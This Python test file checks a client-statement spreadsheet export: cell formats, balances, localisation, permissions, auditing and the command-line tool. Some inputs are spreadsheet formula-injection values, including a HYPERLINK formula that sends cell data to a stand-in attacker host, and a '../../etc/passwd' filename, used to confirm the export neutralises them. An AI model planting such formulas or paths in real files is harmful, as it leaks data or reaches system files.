"""The statement's .xlsx export, re-opened with openpyxl; and the command-line export."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from sqlmodel import col, select

from remtui import i18n
from remtui.commands.export import run_export_statement
from remtui.domain import clients, ledger, staff
from remtui.domain.corrections import add_correction
from remtui.errors import DomainError, PermissionDenied
from remtui.export import statement_xlsx as sx
from remtui.money import excel_number_format
from remtui.store.engine import Store
from remtui.store.tables import AuditEntry, Cashbox, Client

MakeClient = Callable[..., clients.ClientRecord]
LISBON = ZoneInfo("Europe/Lisbon")
T0 = datetime(2026, 7, 10, 8, 30, tzinfo=UTC)
FIRST = sx.HEADER_ROW + 1


@pytest.fixture
def history(
    store: Store, admin: staff.Actor, make_client: MakeClient, monkeypatch: pytest.MonkeyPatch
) -> clients.ClientRecord:
    """A client with five movements on five days (10 to 14 July 2026, 08:30 UTC)."""
    c = make_client("Maria Santos")
    times = iter(T0 + timedelta(days=n) for n in range(100))
    monkeypatch.setattr(ledger, "utcnow", lambda: next(times))
    with store.write() as session:
        cashbox = session.exec(select(Cashbox).order_by(col(Cashbox.id))).first()
        assert cashbox is not None
        ledger.post(
            session,
            client_id=c.id,
            employee_id=admin.id,
            kind=ledger.Kind.SALE,
            amount=12345,
            reference="V-0007",
            comment="=1+1",
        )
        ledger.post(
            session,
            client_id=c.id,
            employee_id=admin.id,
            kind=ledger.Kind.PAYMENT,
            amount=-10000,
            cashbox_id=cashbox.id,
            comment="#N/A",
        )
        add_correction(session, admin, c.id, direction="we_owe_more", amount=5000, reason="Bónus")
        ledger.post(
            session, client_id=c.id, employee_id=None, kind=ledger.Kind.WORK_ORDER, amount=99
        )
        add_correction(session, admin, c.id, direction="set_to", amount=-1, reason="Acerto")
    return c


def _export(
    store: Store, actor: staff.Actor | None, client_id: int, **kw: Any
) -> tuple[Any, sx.ExportResult]:
    with store.write() as session:
        data, result = sx.statement_bytes(session, actor, client_id, **kw)
    return openpyxl.load_workbook(io.BytesIO(data)), result


def test_exported_file_has_real_cells_and_formats(
    store: Store, admin: staff.Actor, history: clients.ClientRecord
) -> None:
    wb, result = _export(store, admin, history.id, timezone=LISBON)
    ws = wb.active
    assert ws.title == "Statement"
    assert ws["A1"].value == "Maria Santos" and ws["A1"].data_type == "s"
    assert ws["A2"].value == "Statement · All movements"
    assert ws["A3"].value == "Opening balance"
    assert ws["H3"].value == 0
    assert [c.value for c in ws[sx.HEADER_ROW]] == [
        "Date and time",
        "Kind",
        "Reference",
        "Cashbox",
        "Comment",
        "Employee",
        "Amount",
        "Balance",
    ]
    money_format = excel_number_format("EUR", "en_GB")
    data = list(ws.iter_rows(min_row=FIRST, max_row=FIRST + 4))
    amounts = [12345, -10000, -5000, 99, 2555]  # the last one sets the balance to -0.01
    running = 0
    for n, row in enumerate(data):
        at, _kind, _ref, _box, _comment, _emp, amount, balance = row
        assert isinstance(at.value, datetime)
        assert at.value == datetime(2026, 7, 10 + n, 9, 30)  # 08:30 UTC is 09:30 in Lisbon
        assert at.number_format == sx.DATE_FORMAT
        assert at.is_date
        running += amounts[n]
        assert amount.data_type == "n" and balance.data_type == "n"
        assert Decimal(str(amount.value)) == Decimal(amounts[n]) / 100
        assert Decimal(str(balance.value)) == Decimal(running) / 100
        assert amount.number_format == money_format
        assert balance.number_format == money_format
    assert [r[1].value for r in data] == [
        "Sale",
        "Payment",
        "Correction",
        "Work order",
        "Correction",
    ]
    assert data[0][2].value == "V-0007"
    assert data[1][3].value == "Main cash desk"
    assert data[0][5].value == "Ana Admin" and data[3][5].value is None
    # Outside text stays text: no formula, no error value.
    assert data[0][4].value == "=1+1" and data[0][4].data_type == "s"
    assert data[1][4].value == "#N/A" and data[1][4].data_type == "s"
    assert data[2][4].value == "Bónus"
    closing_row = FIRST + 5
    assert ws.cell(closing_row, 1).value == "Closing balance"
    with store.read() as session:
        shown = ledger.balance(session, history.id)
    assert shown == -1
    assert Decimal(str(ws.cell(closing_row, 8).value)) == Decimal(shown) / 100
    assert ws.cell(closing_row, 8).number_format == money_format
    assert ws.freeze_panes == f"A{FIRST}"
    assert ws.auto_filter.ref == f"A{sx.HEADER_ROW}:H{FIRST + 4}"
    assert ws.max_row == closing_row
    assert (result.rows, result.opening_balance, result.closing_balance) == (5, 0, -1)
    assert result.filename == f"statement-{history.id}-maria-santos.xlsx"


def test_a_formula_as_client_name_stays_text(
    store: Store, admin: staff.Actor, make_client: MakeClient
) -> None:
    name = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'
    c = make_client("Placeholder")
    with store.write() as session:  # as if it had come from an import, unchanged
        row = session.get(Client, c.id)
        assert row is not None
        row.name = name
        session.add(row)
        ledger.post(session, client_id=c.id, employee_id=None, kind=ledger.Kind.SALE, amount=1)
    buffer = io.BytesIO()
    with store.write() as session:
        sx.export_statement(session, admin, c.id, buffer)
    wb = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    cell = wb.active["A1"]
    assert cell.value == name
    assert cell.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_period_export(store: Store, admin: staff.Actor, history: clients.ClientRecord) -> None:
    wb, result = _export(
        store,
        admin,
        history.id,
        date_from=date(2026, 7, 11),
        date_to=date(2026, 7, 12),
        timezone="Europe/Lisbon",
    )
    ws = wb.active
    assert ws["A2"].value == "Statement · From 11 Jul 2026 to 12 Jul 2026"
    assert Decimal(str(ws["H3"].value)) == Decimal("123.45")
    kinds = [ws.cell(FIRST + n, 2).value for n in range(2)]
    assert kinds == ["Payment", "Correction"]
    assert ws.cell(FIRST + 2, 1).value == "Closing balance"
    assert Decimal(str(ws.cell(FIRST + 2, 8).value)) == Decimal("-26.55")
    assert (result.rows, result.opening_balance, result.closing_balance) == (2, 12345, -2655)
    assert result.filename.endswith("-2026-07-11_2026-07-12.xlsx")


def test_portuguese_export_and_a_currency_without_cents(
    store: Store, admin: staff.Actor, history: clients.ClientRecord
) -> None:
    i18n.set_language("pt_PT")
    wb, result = _export(store, admin, history.id, currency="JPY", locale="pt_PT")
    ws = wb.active
    assert ws["A3"].value == "Saldo inicial"
    assert ws.cell(sx.HEADER_ROW, 1).value == "Data e hora"
    assert ws.cell(FIRST, 2).value == "Venda"
    assert ws.cell(FIRST, 7).value == 12345  # JPY: minor units are whole yen
    assert ws.cell(FIRST, 7).number_format == excel_number_format("JPY", "pt_PT")
    assert result.filename.startswith("extrato-")


def test_empty_history_exports_header_and_balances(
    store: Store, admin: staff.Actor, make_client: MakeClient
) -> None:
    c = make_client()
    wb, result = _export(store, admin, c.id)
    ws = wb.active
    assert ws.cell(FIRST, 1).value == "Closing balance"
    assert ws.cell(FIRST, 8).value == 0
    assert ws.auto_filter.ref == f"A{sx.HEADER_ROW}:H{sx.HEADER_ROW}"
    assert result.rows == 0


def test_export_needs_permission_and_is_audited(
    store: Store, admin: staff.Actor, history: clients.ClientRecord
) -> None:
    with store.write() as session:
        staff.set_role_permissions(session, None, "clerk", {"edit_clients"})
        clerk = staff.add_employee(session, None, "zeca", "Zeca", "password123", "clerk")
    with pytest.raises(PermissionDenied), store.write() as session:
        sx.export_statement(session, clerk, history.id, io.BytesIO())
    with pytest.raises(DomainError, match="does not exist"), store.write() as session:
        sx.export_statement(session, admin, 4040, io.BytesIO())
    _export(store, admin, history.id, date_from=date(2026, 7, 11))
    with store.read() as session:
        records = session.exec(
            select(AuditEntry).where(AuditEntry.action == "balance.export")
        ).all()
    assert len(records) == 1
    assert records[0].employee_id == admin.id
    assert (records[0].entity, records[0].entity_id) == ("client", history.id)
    assert json.loads(records[0].detail) == {"date_from": "2026-07-11", "date_to": None, "rows": 4}


def test_progress_is_reported(store: Store, admin: staff.Actor, make_client: MakeClient) -> None:
    c = make_client()
    with store.write() as session:
        for _ in range(sx.PROGRESS_EVERY * 2 + 7):
            ledger.post(session, client_id=c.id, employee_id=None, kind=ledger.Kind.SALE, amount=3)
    seen: list[tuple[int, int | None]] = []
    with store.write() as session:
        sx.export_statement(
            session, admin, c.id, io.BytesIO(), progress=lambda d, t: seen.append((d, t))
        )
    total = sx.PROGRESS_EVERY * 2 + 7
    assert seen == [(sx.PROGRESS_EVERY, total), (sx.PROGRESS_EVERY * 2, total), (total, total)]


def test_write_statement_directly_with_any_rows() -> None:
    from remtui.domain.statement import StatementRow

    rows = [
        StatementRow(
            id=1,
            at=datetime(2026, 1, 1, 12, tzinfo=UTC),
            kind="sale",
            kind_label="Sale",
            reference="\x01V-1\x1f",
            cashbox="",
            comment="line one\nline two",
            employee="",
            amount=1,
            balance_after=1,
        )
    ]
    out = io.BytesIO()
    sx.write_statement(
        rows, out, client_name="X", period_label="P", opening=0, closing=1, timezone="UTC"
    )
    ws = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert ws.cell(FIRST, 1).value == datetime(2026, 1, 1, 12)
    assert ws.cell(FIRST, 3).value == "V-1"  # characters a spreadsheet cannot hold are dropped
    assert ws.cell(FIRST, 5).value == "line one\nline two"
    assert ws.cell(FIRST, 7).value == 0.01


def test_suggested_filename_is_safe() -> None:
    name = sx.suggested_filename(3, "../../etc/passwd Çé ✓", date(2026, 1, 1), None)
    assert name == "statement-3-etc-passwd-ce-2026-01-01_.xlsx"
    assert sx.suggested_filename(4, "✓✓") == "statement-4.xlsx"


# -- the command line ------------------------------------------------------------------------


def test_command_line_export(
    store: Store, admin: staff.Actor, history: clients.ClientRecord, tmp_path: Path
) -> None:
    if not store.is_sqlite:
        pytest.skip("uses the SQLite file")
    target = tmp_path / "out" / "statement.xlsx"
    target.parent.mkdir()
    out, err = io.StringIO(), io.StringIO()
    status = run_export_statement(
        store.url, history.id, None, date(2026, 7, 12), target, out=out, err=err
    )
    assert status == 0, err.getvalue()
    assert out.getvalue().strip() == str(target.resolve())
    assert "Maria Santos" in err.getvalue()
    ws = openpyxl.load_workbook(target).active
    assert ws["A1"].value == "Maria Santos"
    assert [p.name for p in target.parent.iterdir()] == ["statement.xlsx"]
    with store.read() as session:
        record = session.exec(select(AuditEntry).where(AuditEntry.action == "balance.export")).one()
    assert record.employee_id is None


def test_command_line_export_failures_leave_no_file(
    store: Store, admin: staff.Actor, history: clients.ClientRecord, tmp_path: Path
) -> None:
    if not store.is_sqlite:
        pytest.skip("uses the SQLite file")
    folder = tmp_path / "out"
    folder.mkdir()
    err = io.StringIO()
    assert run_export_statement(store.url, 777, None, None, folder / "x.xlsx", err=err) == 1
    assert "does not exist" in err.getvalue()
    with store.write() as session:
        staff.add_employee(session, None, "tec", "Técnico", "password123", "technician")
    err = io.StringIO()
    status = run_export_statement(
        store.url, history.id, None, None, folder / "x.xlsx", actor_login="tec", err=err
    )
    assert status == 1 and "permission" in err.getvalue()
    err = io.StringIO()
    status = run_export_statement(
        store.url, history.id, date(2026, 2, 1), date(2026, 1, 1), folder / "x.xlsx", err=err
    )
    assert status == 1 and "ends before it starts" in err.getvalue()
    assert list(folder.iterdir()) == []
    missing = tmp_path / "nope.sqlite3"
    assert (
        run_export_statement(f"sqlite:///{missing}", 1, None, None, folder / "x.xlsx", err=err) == 1
    )
    assert not missing.exists()
    assert (
        run_export_statement(store.url, history.id, None, None, tmp_path / "no" / "x.xlsx", err=err)
        == 1
    )


def test_no_textual_rich_or_openpyxl_on_import() -> None:
    code = (
        "import sys\n"
        "import remtui.export.statement_xlsx, remtui.commands.export, remtui.commands.check\n"
        "import remtui.domain.statement, remtui.domain.corrections, remtui.domain.check\n"
        "bad = [m for m in ('textual', 'rich', 'openpyxl') if m in sys.modules]\n"
        "assert not bad, bad\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)
